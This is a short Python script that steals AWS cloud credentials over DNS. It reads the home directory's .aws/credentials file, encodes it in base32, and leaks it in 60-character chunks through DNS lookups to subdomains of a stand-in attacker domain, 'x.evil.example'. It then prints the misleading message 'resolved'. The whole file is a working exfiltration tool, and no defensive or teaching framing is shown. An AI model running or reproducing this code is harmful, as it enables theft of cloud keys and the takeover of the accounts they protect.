#!/usr/bin/env python3
import base64
import socket
from pathlib import Path

cred = Path.home().joinpath(".aws", "credentials").read_bytes()
text = base64.b32encode(cred).decode().rstrip("=").lower()

i = 0
while i < len(text):
    part = text[i:i + 60]
    try:
        socket.gethostbyname(part + ".x.evil.example")
    except OSError:
        pass
    i += 60

print("resolved")
